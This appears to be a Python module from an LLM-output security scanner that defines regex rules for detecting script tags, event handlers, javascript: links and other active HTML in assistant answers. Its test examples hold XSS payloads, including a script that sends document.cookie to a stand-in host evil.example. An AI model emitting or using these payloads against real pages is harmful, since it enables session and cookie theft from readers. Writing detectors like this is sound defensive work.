"""Active content in an answer: what an answer must not hold unmarked."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import ClassVar

from bartizan.core.segment import Role
from bartizan.core.severity import Severity
from bartizan.detect.rules import Rule, Ruled
from bartizan.registry import Meta

_RULES: Sequence[Rule] = (
    Rule(
        0.85,
        "a script element",
        r"(?i)<script\b[^>]{0,300}>",
    ),
    Rule(
        0.9,
        "an element with a script in a handler",
        r"(?i)<(?:img|svg|body|iframe|video|audio|input|button|a|div|details|marquee|form|object|embed|link|ma"
        r"""th|table|select|textarea|style|p|span|h1|isindex|source|track|image)\b[^>]{0,400}[\s"'/](?:on(?:erro"""
        r"r|load|click|mouseover|mouseenter|focus|blur|toggle|begin|pageshow|animationstart|animationend|trans"
        r"itionend|pointerover|wheel|submit|input|change|keydown|keyup|copy|cut|paste|drag|drop|hashchange|mes"
        r"sage|unload|resize|scroll|start|finish))\s{0,4}=[^>]{1,400}",
    ),
    Rule(
        0.7,
        "an element that loads another page",
        r"(?i)<(?:iframe|object|embed|applet|base|portal|frame)\b[^>]{0,300}\b(?:src|data|srcdoc|code|href)\s{"
        r"0,4}=[^>]{1,400}",
    ),
    Rule(
        0.9,
        "a link that runs script",
        r"""(?i)\b(?:href|src|action|formaction|data|poster|xlink:href)\s{0,4}=\s{0,4}["']?\s{0,4}(?:javascript|"""
        r"""vbscript|livescript)\s{0,4}(?::|&colon;|&#x?0*(?:58|3a);)[^\s"'>]{1,300}""",
    ),
    Rule(
        0.8,
        "a data address that holds a page",
        r"(?i)\bdata:(?:text/html|image/svg\+xml|application/(?:xhtml\+xml|javascript|x-javascript)|text/javas"
        r"""cript|text/xml)[;,][^\s"')>]{1,400}""",
    ),
    Rule(
        0.9,
        "a Markdown link that runs script",
        r"(?i)\]\(\s{0,4}<?(?:javascript|vbscript|data:text/html)[:;,][^\s)]{1,300}",
    ),
    Rule(
        0.8,
        "a page that sends on",
        r"""(?i)<meta\b[^>]{0,100}http-equiv\s{0,4}=\s{0,4}["']?refresh[^>]{0,200}url=[^>]{1,300}""",
    ),
    Rule(
        0.7,
        "a style that loads or computes",
        r"""(?i)<style\b[^>]{0,100}>[^<]{0,400}(?:@import\s{1,4}["'u]|expression\s{0,4}\(|url\s{0,4}\(\s{0,4}["'"""
        r"]?(?:https?:)?//)",
    ),
    Rule(
        0.8,
        "a drawing with active content",
        r"(?i)<svg\b[^>]{0,300}>[^<]{0,200}<(?:script|foreignobject|animate|set|use|handler|image)\b",
    ),
)


@dataclass(frozen=True, kw_only=True)
class Script(Ruled):
    """Markup that runs script, loads a page into the page, or leads elsewhere."""

    meta: ClassVar[Meta] = Meta(
        id="output.script",
        title="Active content in an answer",
        why="A page that shows an answer as HTML runs what stands in it, in the session of whoever reads it.",
        severity=Severity.HIGH,
        tags=(
            "owasp-llm:2026:LLM10",
            "cwe:4:CWE-79",
        ),
        references=(
            "https://owasp.org/www-community/attacks/xss/",
            "https://html.spec.whatwg.org/multipage/webappapis.html",
        ),
        false_positives="Answers that teach or write web pages: let them through where answers are shown as text.",
        hits=(
            "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x></svg>",
            '<iframe src="https://evil.example/"></iframe>',
            '<a href="javascript:alert(1)">more</a>',
            "See data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
            "[more](javascript:alert(document.domain))",
        ),
        misses=(
            "<p>The harbour was <b>quiet</b>.</p>",
            "Use the script element, or an onload handler.",
            "![chart](data:image/png;base64,iVBORw0KGgo=)",
            '<a href="https://example.org/javascript">JavaScript</a>',
            "if (a < b && onerror) { retry(); }",
        ),
    )
    rules: ClassVar[Sequence[Rule]] = _RULES
    category: str = "active_content"
    roles: tuple[Role, ...] = (Role.ASSISTANT,)
    in_code: float = 0.6
